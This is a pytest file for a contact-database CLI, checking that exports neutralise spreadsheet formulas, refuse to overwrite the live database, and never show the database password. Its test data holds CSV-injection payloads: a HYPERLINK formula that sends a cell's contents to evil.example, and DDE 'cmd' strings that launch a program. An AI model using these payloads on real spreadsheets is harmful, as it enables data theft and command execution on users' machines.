"""Exports that cannot hurt: no live formulas in spreadsheets, no export over the live database
or over a device, a FIFO or a socket, ``-o -`` as standard output, checked feed arguments, and no
database password in any message."""

from __future__ import annotations

import csv
import io
import os
import pty
import socket
import stat
import subprocess
import sys
import threading
import time
import urllib.request
from pathlib import Path

import pytest
from test_cli import _refused

from citynet.services.dump import export_json
from citynet.services.importer import import_file
from citynet.services.records import create_record

PASSWORD = "s3cr3t-pw"

# Names and phones a spreadsheet would run as formulas (OWASP "CSV injection").
FORMULAS = {
    "p-hyperlink": ('=HYPERLINK("http://evil.example/?"&A2,"Click")', "+cmd|' /C calc'!A0"),
    "p-sum": ("@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"),
    "p-dash": ("-Minus", "+81-3-1234-5678"),
    "p-quoted": ("'=already quoted", "'+81 3 1234 5678"),
    "p-number": ("Plain", "-3"),
}




def _add_formula_people(engine) -> None:
    for slug, (family, phone) in FORMULAS.items():
        create_record(engine, "person", {"slug": slug, "family_name_latin": family,
                                         "given_name_latin": "Test", "phone": phone}, origin="cli")


# --- 3. formula injection -----------------------------------------------------------------------


def test_csv_export_neutralises_formula_cells(sqlite_engine, tmp_path):
    from citynet.render.sheets import export_list

    _add_formula_people(sqlite_engine)
    path = export_list(sqlite_engine, "contacts", "csv", "en", output=tmp_path / "c.csv")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-3", cell
    assert "'" + FORMULAS["p-hyperlink"][0] in cells
    assert "'" + FORMULAS["p-hyperlink"][1] in cells
    assert "'@SUM(1+1)" in cells and "'-Minus" in cells and "'+81-3-1234-5678" in cells
    assert "''=already quoted" in cells  # one apostrophe more: the import takes exactly one off
    assert "-3" in cells  # a plain number runs nothing: left as it is


def test_xlsx_export_has_no_formula_cell(sqlite_engine, tmp_path):
    from openpyxl import load_workbook

    from citynet.render.sheets import export_list

    _add_formula_people(sqlite_engine)
    path = export_list(sqlite_engine, "contacts", "xlsx", "en", output=tmp_path / "c.xlsx")
    sheet = load_workbook(path).active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and cell.number_format == "@", cell.coordinate
                texts.append(cell.value)
    assert "'" + FORMULAS["p-hyperlink"][0] in texts and "-3" in texts


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_of_formula_text_reimports_unchanged(sqlite_engine, tmp_path, fmt):
    from citynet.render.sheets import export_list

    _add_formula_people(sqlite_engine)
    path = export_list(sqlite_engine, "contacts", fmt, "en", output=tmp_path / f"c.{fmt}")
    before = export_json(sqlite_engine)
    report = import_file(sqlite_engine, "people", path, fmt)
    assert report.rejected == [] and report.count("create") == 0 and report.count("update") == 0
    assert export_json(sqlite_engine) == before


def test_reading_a_cell_takes_off_exactly_one_added_apostrophe():
    from citynet.services.sheet_reading import _cell

    assert _cell("'=SUM(1)") == "=SUM(1)"
    assert _cell("''=SUM(1)") == "'=SUM(1)"
    assert _cell("'+81 3") == "+81 3"
    assert _cell("'@x") == "@x" and _cell("'-x") == "-x"
    assert _cell("'quoted'") == "'quoted'"  # not before a formula character: kept
    assert _cell("-3") == "-3" and _cell("'") == "'"


# --- 4. where an export may go ------------------------------------------------------------------


@pytest.fixture
def live(cli, tmp_path) -> Path:
    """A demo database at LIVE.db, named with --db."""
    code, _out, err = cli("demo", "--db", f"sqlite:///{tmp_path / 'LIVE.db'}")
    assert code == 0, err
    return tmp_path / "LIVE.db"


EXPORTS = [
    ("export", "json"),
    ("export", "csv", "contacts"),
    ("export", "xlsx", "contacts"),
    ("export", "pdf", "programme", "--event", "cop29"),
    ("export", "ics", "--all"),
    ("backup",),
]


@pytest.mark.parametrize("link", ["same", "symlink", "hardlink"])
def test_no_export_overwrites_the_live_database(cli, tmp_path, live, link):
    target = live
    if link == "symlink":
        target = tmp_path / "alias.db"
        target.symlink_to(live)
    elif link == "hardlink":
        target = tmp_path / "other.db"
        os.link(live, target)
    before = live.read_bytes()
    for words in EXPORTS:
        _refused(cli(*words, "-o", str(target), "--db", f"sqlite:///{live}"))
        assert live.read_bytes() == before, words
        assert target.exists() and os.path.samefile(target, live)
    for words in EXPORTS[:2]:  # the -wal and -shm files beside it too
        _refused(cli(*words, "-o", f"{live}-wal", "--db", f"sqlite:///{live}"))
    _refused(cli("feeds", "build", "-o", str(target), "--db", f"sqlite:///{live}"))
    assert live.read_bytes() == before
    code, _out, err = cli("stats", "--event", "cop29", "--db", f"sqlite:///{live}")
    assert code == 0, err


@pytest.mark.parametrize("words", [("export", "json"), ("export", "csv", "contacts"),
                                   ("export", "ics", "--all")])
def test_dash_writes_text_to_standard_output(cli, tmp_path, live, words):
    code, out, err = cli(*words, "-o", "-", "--db", f"sqlite:///{live}")
    assert code == 0, err
    assert out.strip() and "Written" not in out
    assert not (tmp_path / "-").exists()
    if words[1] == "ics":
        assert out.startswith("BEGIN:VCALENDAR")


def _run_bytes(cli, *args, stdout=subprocess.PIPE):
    return subprocess.run([sys.executable, "-m", "citynet", *args], stdout=stdout,
                          stderr=subprocess.PIPE, env=cli.env, cwd=cli.tmp_path, timeout=120)


@pytest.mark.parametrize("words", [("export", "pdf", "programme", "--event", "cop29"),
                                   ("export", "xlsx", "contacts")])
def test_dash_writes_binary_to_a_pipe_never_to_a_terminal(cli, tmp_path, live, words):
    db = ("--db", f"sqlite:///{live}")
    piped = _run_bytes(cli, *words, "-o", "-", *db)
    assert piped.returncode == 0, piped.stderr
    assert piped.stdout.startswith(b"%PDF" if words[1] == "pdf" else b"PK")
    assert not (tmp_path / "-").exists()

    main, secondary = pty.openpty()
    try:
        on_terminal = _run_bytes(cli, *words, "-o", "-", *db, stdout=secondary)
    finally:
        os.close(secondary)
        os.set_blocking(main, False)
        try:
            shown = os.read(main, 1 << 16)
        except OSError:
            shown = b""
        os.close(main)
    err = on_terminal.stderr.decode()
    assert on_terminal.returncode == 2, err
    assert len(err.strip().splitlines()) == 1 and err.startswith("citynet: error: ")
    assert shown == b"" and not (tmp_path / "-").exists()


@pytest.fixture
def char_device(tmp_path) -> Path:
    """A null device of the test's own (never /dev/null: a regression must not replace that)."""
    path = tmp_path / "null-device"
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except (PermissionError, AttributeError):
        pytest.skip("cannot make a device node here")
    return path


def test_a_character_device_is_written_through_never_replaced(cli, live, char_device):
    db = ("--db", f"sqlite:///{live}")
    for words in EXPORTS:
        if words == ("backup",):
            continue  # a backup needs a file name ending in .db or .json
        code, _out, err = cli(*words, "-o", str(char_device), *db)
        assert code == 0, (words, err)
        assert stat.S_ISCHR(os.lstat(char_device).st_mode), words
    # A backup is checked under a temporary name, then renamed: it can only replace a file.
    for name in ("null.json", "null.db"):
        device = char_device.parent / name
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        _refused(cli("backup", "-o", str(device), *db))
        assert stat.S_ISCHR(os.lstat(device).st_mode)


def test_a_fifo_is_written_through_never_replaced(cli, tmp_path, live):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []

    def reader():
        with open(fifo, "rb") as stream:
            received.append(stream.read())

    thread = threading.Thread(target=reader, daemon=True)
    thread.start()
    code, _out, err = cli("export", "json", "-o", str(fifo), "--db", f"sqlite:///{live}", timeout=60)
    if code != 0:  # unblock the reader before failing
        with open(fifo, "wb"):
            pass
    thread.join(timeout=30)
    assert code == 0, err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert received and received[0].startswith(b"{")


def test_a_socket_is_refused(cli, tmp_path, live):
    path = tmp_path / "sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind(str(path))
        _refused(cli("export", "json", "-o", str(path), "--db", f"sqlite:///{live}"))
        assert stat.S_ISSOCK(os.lstat(path).st_mode)
    finally:
        server.close()


def test_stdout_redirected_to_a_file_is_written_not_replaced(cli, tmp_path, live):
    """``-o /dev/stdout`` with stdout a file writes into that file; /dev/stdout stays a link."""
    out_file = tmp_path / "out.json"
    with open(out_file, "wb") as stream:
        result = _run_bytes(cli, "export", "json", "-o", "/dev/stdout", "--db",
                            f"sqlite:///{live}", stdout=stream)
    assert result.returncode == 0, result.stderr
    assert os.path.islink("/dev/stdout")
    assert out_file.read_bytes().startswith(b"{") and b"Written" not in out_file.read_bytes()


# --- 10./12. feeds ------------------------------------------------------------------------------


@pytest.mark.parametrize("port", ["70000", "0", "-1", "65536"])
def test_feeds_serve_refuses_a_port_out_of_range(cli, port):
    assert "65535" in _refused(cli("feeds", "serve", "--port", port, timeout=20))


def test_feeds_build_refuses_a_missing_parent_and_dash(cli, tmp_path, live):
    db = ("--db", f"sqlite:///{live}")
    missing = tmp_path / "missing" / "dir"
    assert "does not exist" in _refused(cli("feeds", "build", "-o", str(missing), *db))
    assert not (tmp_path / "missing").exists()
    _refused(cli("feeds", "build", "-o", "-", *db))
    assert not (tmp_path / "-").exists() and not (tmp_path / "feed-tokens.json").exists()
    code, _out, err = cli("feeds", "build", "-o", str(tmp_path / "new"), *db)  # parent exists
    assert code == 0, err
    code, _out, err = cli("feeds", "build", *db)  # the default directory is created
    assert code == 0, err
    assert (tmp_path / "exports" / "feeds" / "index.html").is_file()


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_feeds_serve_says_where_it_serves(cli, tmp_path, live):
    feeds = tmp_path / "feeds"
    assert cli("feeds", "build", "-o", str(feeds), "--db", f"sqlite:///{live}")[0] == 0
    port = _free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "citynet", "feeds", "serve", "--port", str(port), "-d", str(feeds),
         "--db", f"sqlite:///{live}"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=cli.env, cwd=tmp_path, text=True)
    try:
        lines: list[str] = []
        reader = threading.Thread(target=lambda: lines.append(process.stdout.readline()), daemon=True)
        reader.start()
        reader.join(timeout=30)
        assert lines and f"http://127.0.0.1:{port}/" in lines[0], (lines, process.poll())
        deadline = time.monotonic() + 10
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5) as response:
                    assert response.status == 200
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.1)
    finally:
        process.terminate()
        process.wait(timeout=10)
        process.stdout.close()
        process.stderr.close()


# --- 11. no password in any message -------------------------------------------------------------


def _postgres_urls() -> list[str]:
    from sqlalchemy.engine import make_url

    server = os.environ.get("CITYNET_TEST_POSTGRES_URL")
    if not server:
        return []
    url = make_url(server).set(drivername="postgresql+psycopg", password=PASSWORD)
    return [
        url.set(username="no_such_role_citynet").render_as_string(hide_password=False),  # refused
        url.set(database="no_such_database_citynet").render_as_string(hide_password=False),
    ]


BAD_URLS = [
    f"postgresql+psycopg://user:{PASSWORD}@127.0.0.1:1/x",              # unreachable server
    f"postgresql+psycopg://user:{PASSWORD}@127.0.0.1:notaport/x",       # bad port
    f"postgresql+nodriver://user:{PASSWORD}@127.0.0.1/x",               # unknown driver
    f"post gres://user:{PASSWORD}@127.0.0.1/x",                          # not a URL
    f"postgresql+psycopg://user:{PASSWORD}@127.0.0.1:1/x?sslmode=bogus",  # bad option
]


@pytest.mark.parametrize("url", BAD_URLS + _postgres_urls())
def test_no_error_message_shows_the_database_password(cli, tmp_path, url):
    runs = [
        cli("stats", "--event", "cop29", "--db", url),
        cli("db", "current", "--db", url),
        cli("db", "upgrade", "--db", url),
        cli("export", "json", "-o", "-", "--db", url),
        cli("backup", "-o", str(tmp_path / "b.json"), "--db", url),
        cli("export", "json", "-o", "-", env={"CITYNET_DATABASE_URL": url}),
        cli("stats", "--event", "cop29", "--dbb", url),  # an argument argparse does not know
    ]
    for code, out, err in runs:
        assert code == 2, (code, out, err)
        assert PASSWORD not in out and PASSWORD not in err, err
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err


def test_documents_follow_the_umask_and_personal_data_stays_private(cli, tmp_path):
    """A briefing is shared like any document (the user's umask); contact lists and dumps hold
    personal data and are readable by their owner only, even when they replace a file."""
    import stat

    cli.load_demo()
    saved = os.umask(0o022)
    try:
        def mode(path: Path) -> int:
            return stat.S_IMODE(path.stat().st_mode)

        pdf, ics = tmp_path / "b.pdf", tmp_path / "c.ics"
        contacts, dump = tmp_path / "contacts.csv", tmp_path / "dump.json"
        contacts.write_text("old", encoding="utf-8")
        contacts.chmod(0o644)  # an earlier, readable file: replaced by a private one
        for words, target in ((("export", "pdf", "briefing", "--event", "cop29"), pdf),
                              (("export", "ics", "--event", "cop29"), ics),
                              (("export", "csv", "contacts"), contacts),
                              (("export", "json"), dump)):
            code, _out, err = cli(*words, "-o", str(target))
            assert code == 0, err
        assert (mode(pdf), mode(ics)) == (0o644, 0o644)
        assert (mode(contacts), mode(dump)) == (0o600, 0o600)
        pdf.chmod(0o640)  # the user narrowed it: a new version keeps that
        assert cli("export", "pdf", "briefing", "--event", "cop29", "-o", str(pdf)).code == 0
        assert mode(pdf) == 0o640
    finally:
        os.umask(saved)
